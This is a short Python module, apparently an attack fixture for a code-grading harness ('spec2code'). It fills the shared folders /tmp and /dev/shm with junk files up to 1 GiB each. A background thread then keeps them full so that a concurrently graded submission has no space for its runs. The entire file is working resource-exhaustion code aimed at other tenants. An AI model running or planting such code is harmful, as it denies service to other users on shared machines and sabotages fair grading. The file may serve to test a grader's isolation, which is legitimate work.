"""Attack: fill the machine's shared folders (/tmp, /dev/shm) and keep them full while it is graded (a thread takes
back whatever is freed), so that a classmate graded at the same time finds no room for its runs or its copy."""

import errno
import os
import threading
import time

from solutions.agent import extract_code, holdout_check, solve, write_solution, write_tests  # noqa: F401

FOLDERS = ("/tmp", "/dev/shm")
MOST = 1 << 30  # bytes per folder at most: enough to fill a small tmpfs, not a whole machine's disk
CHUNK = b"\0" * (64 << 10)


class Filler:
    """Files in one folder, written until the folder is full; each up to the per-file limit (RLIMIT_FSIZE)."""

    def __init__(self, folder: str):
        self.folder, self.files, self.written, self.fd = folder, 0, 0, None

    def fill(self) -> None:
        while self.written < MOST:
            if self.fd is None:
                try:
                    self.fd = os.open(f"{self.folder}/spec2code-attack-fill-{os.getpid()}-{self.files}",
                                      os.O_WRONLY | os.O_CREAT, 0o600)
                except OSError:
                    return
                self.files += 1
            try:
                self.written += os.write(self.fd, CHUNK)
            except OSError as exc:
                if exc.errno != errno.EFBIG:  # full: try again later; too big a file: start the next one
                    return
                os.close(self.fd)
                self.fd = None


fillers = [Filler(folder) for folder in FOLDERS]


def keep_full() -> None:
    while True:
        for filler in fillers:
            filler.fill()
        time.sleep(0.01)


for filler in fillers:
    filler.fill()
threading.Thread(target=keep_full, daemon=True).start()
